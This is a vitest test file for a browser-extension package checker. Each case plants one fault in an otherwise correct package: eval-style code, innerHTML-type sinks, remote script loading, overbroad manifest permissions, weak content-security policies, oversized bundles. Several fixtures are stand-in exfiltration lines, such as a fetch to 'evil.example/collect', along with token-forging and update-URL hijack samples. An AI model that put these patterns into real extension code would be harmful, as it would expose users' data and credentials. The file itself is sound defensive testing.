/** A check that finds nothing proves nothing: each one is given a package with exactly one thing wrong. */
import { randomBytes } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { readDocumented } from './rules/documented.ts';
import { type Expected, findProblems } from './rules/find-problems.ts';

const documented = readDocumented(`
## What the manifest grants
| grant | why |
|---|---|
| \`permissions\` \`storage\` | … |
| \`action\` \`popup.html\` | … |
| \`commands\` \`open-pod\` | … |
| \`content_scripts\` on \`<PSA site>/*\` | … |
| \`web_accessible_resources\` \`panel.html for <PSA site>/*\` | … |
### The package for the stores
| grant | why |
|---|---|
| \`optional_host_permissions\` \`https://*/*\` | … |
### PSA’s hosts
\`psa.example\`
## Addresses in the packages
| address | where from |
|---|---|
| \`https://{…}\` \`https://api.example\` | … |
### Addresses in the sandbox build
| address | where from |
|---|---|
| \`http://wisepay.localhost:4600\` | … |
`);

const expected: Expected = {
  grants: documented.grantsOn(['https://psa.example']),
  addresses: documented.addresses,
  connect: ['https:'],
  ancestors: ['https://psa.example'],
  isShipped: true,
};

const script = {
  matches: ['https://psa.example/*'],
  js: ['content-scripts/invoice.js'],
  run_at: 'document_idle',
};
const resources = { resources: ['panel.html'], matches: ['https://psa.example/*'], use_dynamic_url: true };
const policy =
  "default-src 'none'; script-src 'self'; style-src 'self'; connect-src https:; base-uri 'none'; form-action 'none'; frame-ancestors https://psa.example; object-src 'none'; require-trusted-types-for 'script'; trusted-types 'none'";
const command = { suggested_key: { default: 'Alt+Shift+Y' }, description: 'Open' };
const manifest = {
  manifest_version: 3,
  permissions: ['storage'],
  action: { default_title: 'POD', default_popup: 'popup.html' },
  commands: { 'open-pod': command },
  content_scripts: [script],
  web_accessible_resources: [resources],
  content_security_policy: { extension_pages: policy },
};
const meta = `<meta http-equiv="Content-Security-Policy" content="connect-src 'none'">`;
const head = `<!doctype html><html><head>${meta}<script type="module" src="/chunks/panel.js"></script></head>`;
const page = `${head}<body></body></html>`;
const code = `const api = "https://api.example/pod"; const site = \`https://\${host}/*\`; node.innerHTML = given.__html; const table = { eval: { minArgs: 1 } }; setTimeout(() => {}, 5); value instanceof Function; Function.prototype.call; import("/chunks/other.js"); "panel.html"; "pod.load"`;

/** A package in which everything is as it should be, with some of its files exchanged. */
function problemsWith(change: Readonly<Record<string, string>>): string[] {
  const files = new Map([
    ['manifest.json', JSON.stringify(manifest)],
    ['background.js', 'fetch(api)'],
    ['content-scripts/invoice.js', 'watch(document)'],
    ['chunks/panel.js', code],
    ['assets/panel.css', 'body { color: red }'],
    ['panel.html', page],
    ...Object.entries(change),
  ]);
  return findProblems(files, expected);
}

const manifestWith = (change: object) => ({ 'manifest.json': JSON.stringify({ ...manifest, ...change }) });

it('nothing is found in a package that is as it should be', () => {
  expect(problemsWith({})).toEqual([]);
});

describe('code out of text is found in', () => {
  it.each([
    'eval("1")',
    '(0, eval)("1")',
    'const run = eval; run("1")',
    'globalThis.eval("1")',
    'self["eval"]("1")',
    'new Function("return 1")()',
    'Function("return 1")()',
    'const Make = Function; new Make("return 1")',
    'run.constructor("return 1")()',
    '[].constructor.constructor(text)()',
    'setTimeout("go()", 1)',
    `window.setInterval(\`go(\${1})\`, 1)`,
    'setTimeout("go(" + id + ")", 1)',
    'importScripts("x.js")',
    'WebAssembly.instantiate(bytes)',
  ])('%s', (poison) => {
    expect(problemsWith({ 'background.js': `fetch(api); ${poison}` })).not.toEqual([]);
  });
});

describe('markup out of text is found in', () => {
  it.each([
    'element.innerHTML = answer.name',
    'element.outerHTML = text',
    'frame.srcdoc = text',
    'element["innerHTML"] = text',
    'element.innerHTML += text',
    'element.insertAdjacentHTML("beforeend", text)',
    'document.write(text)',
    'window.document.writeln(text)',
    'range.createContextualFragment(text)',
    'new DOMParser().parseFromString(text, "text/html")',
    'element.setHTMLUnsafe(text)',
    'h("div", { dangerouslySetInnerHTML: { __html: text } })',
    'h("div", { "dangerouslySetInnerHTML": given })',
    'other.innerHTML = given.__html',
  ])('%s', (poison) => {
    expect(problemsWith({ 'chunks/options.js': poison })).not.toEqual([]);
  });
});

describe('code from elsewhere is found in', () => {
  it.each([
    ['an import', { 'background.js': 'import "https://api.example/x.js"' }],
    ['an import while it runs', { 'background.js': 'import("https://api.example/x.js")' }],
    ['an import of whatever it is told', { 'background.js': 'import(address)' }],
    ['an export', { 'background.js': 'export * from "//api.example/x.js"' }],
    ['a script element', { 'background.js': 'document.createElement("script")' }],
    ['a page', { 'options.html': `${head}<script src="https://api.example/x.js"></script>` }],
    ['a page without a scheme', { 'options.html': `${head}<script src="//api.example/x.js"></script>` }],
    ['a style sheet', { 'assets/panel.css': '@import "x.css"' }],
    ['a picture in a style sheet', { 'assets/panel.css': 'body { background: url(x.png) }' }],
    ['a source map', { 'chunks/panel.js.map': '{}' }],
    ['the name of a source map', { 'background.js': 'x();\n//# sourceMappingURL=background.js.map' }],
  ])('%s', (_, change) => {
    expect(problemsWith(change)).not.toEqual([]);
  });
});

describe('a page is found that has', () => {
  it.each([
    ['an inline script', `${head}<script>go()</script>`],
    ['an inline module', `${head}<script type="module">go()</script>`],
    ['a handler', `${head}<body onload="go()">`],
    ['a style of its own', `${head}<style>body { color: red }</style>`],
    ['a style on an element', `${head}<body style="color: red">`],
    ['a base', `${head}<base href="/x/">`],
    ['a frame', `${head}<iframe src="/other.html"></iframe>`],
    ['a javascript address', `${head}<link href="javascript:go()">`],
    ['no policy against connecting', page.replace(meta, '')],
  ])('%s', (_, html) => {
    expect(problemsWith({ 'options.html': html })).not.toEqual([]);
  });
});

describe('a host that is on no list is found', () => {
  it.each([
    ['in a script', { 'background.js': 'fetch("https://evil.example/collect")' }],
    ['under another scheme', { 'background.js': 'open("wss://api.example/")' }],
    ['as a listed one on an open line', { 'background.js': 'open("http://api.example/")' }],
    ['as a listed one on another port', { 'background.js': 'open("https://api.example:444/")' }],
    ['as the beginning of a listed one', { 'background.js': 'open("https://api.example.evil.test/")' }],
    ['in a template', { 'background.js': `fetch(\`https://evil.test/\${path}\`)` }],
    ['put together', { 'background.js': 'fetch("http://" + host)' }],
    ['by its name alone', { 'background.js': 'const host = "collect.evil.com"' }],
    ['in a file of settings', { 'managed_schema.json': '{ "default": "https://evil.test/" }' }],
    ['of the sandbox', { 'background.js': 'fetch("http://wisepay.localhost:4600/api")' }],
  ])('%s', (_, change) => {
    expect(problemsWith(change)).not.toEqual([]);
  });
});

describe('a manifest is found that has', () => {
  it.each<[string, object]>([
    ['another permission', { permissions: ['storage', 'tabs'] }],
    ['a permission less than documented', { permissions: [] }],
    ['an optional permission', { optional_permissions: ['history'] }],
    ['a host', { host_permissions: ['https://*/*'] }],
    ['an optional host', { optional_host_permissions: ['https://*/*'] }],
    ['another popup', { action: { default_popup: 'other.html' } }],
    [
      'a toolbar button that does more',
      { action: { default_popup: 'popup.html', default_state: 'disabled' } },
    ],
    ['a content script on another site', { content_scripts: [{ ...script, matches: ['<all_urls>'] }] }],
    [
      'a second content script',
      { content_scripts: [script, { ...script, matches: ['https://evil.test/*'] }] },
    ],
    ['a content script in all frames', { content_scripts: [{ ...script, all_frames: true }] }],
    ['a content script in the page’s own world', { content_scripts: [{ ...script, world: 'MAIN' }] }],
    [
      'another file for pages',
      { web_accessible_resources: [{ ...resources, resources: ['panel.html', '*'] }] },
    ],
    ['a file for every page', { web_accessible_resources: [{ ...resources, matches: ['<all_urls>'] }] }],
    ['a file for another extension', { web_accessible_resources: [{ ...resources, extension_ids: ['*'] }] }],
    ['a lasting address', { web_accessible_resources: [{ ...resources, use_dynamic_url: false }] }],
    ['other senders', { externally_connectable: { matches: ['https://evil.test/*'] } }],
    ['another command', { commands: { 'open-pod': command, pay: { suggested_key: 'Ctrl+P' } } }],
    ['a command less than documented', { commands: {} }],
    ['a key that works outside the browser', { commands: { 'open-pod': { ...command, global: true } } }],
    ['rules for requests', { declarative_net_request: { rule_resources: [] } }],
    ['a page in place of the browser’s', { chrome_url_overrides: { newtab: 'panel.html' } }],
    ['an update address', { update_url: 'https://evil.test/' }],
    ['no policy', { content_security_policy: undefined }],
    [
      'a policy for other pages too',
      { content_security_policy: { extension_pages: policy, sandbox: 'sandbox' } },
    ],
  ])('%s', (_, change) => {
    expect(problemsWith(manifestWith(change))).not.toEqual([]);
  });
});

describe('a policy is found that', () => {
  it.each([
    ['allows text as code', policy.replace("script-src 'self'", "script-src 'self' 'unsafe-eval'")],
    ['allows styles in the page', policy.replace("style-src 'self'", "style-src 'self' 'unsafe-inline'")],
    ['allows connections on an open line', policy.replace('https:;', 'https: http:;')],
    ['lets anybody frame', policy.replace('frame-ancestors https://psa.example', 'frame-ancestors *')],
    ['leaves frames to everybody', policy.replace('frame-ancestors https://psa.example; ', '')],
    ['allows pictures', `${policy}; img-src https:`],
    ['allows trusted types', policy.replace("; trusted-types 'none'", '')],
    ['begins with more than nothing', policy.replace("default-src 'none'", "default-src 'self'")],
  ])('%s', (_, extension_pages) => {
    expect(problemsWith(manifestWith({ content_security_policy: { extension_pages } }))).not.toEqual([]);
  });
});

describe('a content script is found that', () => {
  it.each([
    ['speaks for a person', `headers.set("Authorization", \`Bearer \${token}\`)`],
    ['signs proofs', 'sign("DPoP")'],
    ['reads the journal', 'read("journal.1")'],
  ])('%s', (_, poison) => {
    expect(problemsWith({ 'content-scripts/invoice.js': poison })).not.toEqual([]);
  });

  it('is not there', () => {
    const files = new Map([['manifest.json', JSON.stringify(manifest)]]);
    expect(findProblems(files, expected)).toContain('no content script');
  });
});

describe('what has grown past its budget is found, where it is', () => {
  const noise = (bytes: number) => `const noise = "${randomBytes(bytes).toString('base64')}";`;

  it.each([
    ['the content script', { 'content-scripts/invoice.js': noise(12_000) }, 'contentScript'],
    ['the worker', { 'background.js': noise(60_000) }, 'worker'],
    ['the panel', { 'chunks/panel.js': noise(75_000) }, 'panel'],
    [
      'a module that the panel cannot do without',
      { 'chunks/panel.js': 'import"./more.js"', 'chunks/more.js': noise(75_000) },
      'panel',
    ],
    ['a style', { 'panel.html': `${page}<link href="/x.css">`, 'x.css': noise(75_000) }, 'panel'],
    [
      'one of its languages',
      { 'chunks/panel.js': 'import("./es.js"); import("./de.js")', 'chunks/es.js': noise(75_000) },
      'panel',
    ],
  ])('%s', (_, change, part) => {
    expect(problemsWith(change)).toEqual([
      expect.stringMatching(new RegExp(`^${part}: \\d+ bytes of \\d+$`)),
    ]);
  });

  it('but languages that are loaded one at a time are not added up', () => {
    const languages = { 'chunks/es.js': noise(50_000), 'chunks/de.js': noise(50_000) };
    const panel = { 'chunks/panel.js': 'import("./es.js"); import("./de.js")' };
    expect(problemsWith({ ...panel, ...languages })).toEqual([]);
  });
});

describe('the document', () => {
  it('says of each site that a package serves what it says of <PSA site>', () => {
    expect(documented.grantsOn(['http://psa.localhost:1', 'https://cw.example'])).toEqual([
      'permissions: storage',
      'action: popup.html',
      'commands: open-pod',
      'content_scripts: http://psa.localhost:1/*',
      'content_scripts: https://cw.example/*',
      'web_accessible_resources: panel.html for http://psa.localhost:1/*',
      'web_accessible_resources: panel.html for https://cw.example/*',
    ]);
  });

  it('keeps apart what the package for the stores grants on top', () => {
    expect(documented.storeGrants).toEqual(['optional_host_permissions: https://*/*']);
  });

  it('is refused where a section is missing', () => {
    expect(() => readDocumented('# Permissions')).toThrow('PSA’s hosts');
  });
});
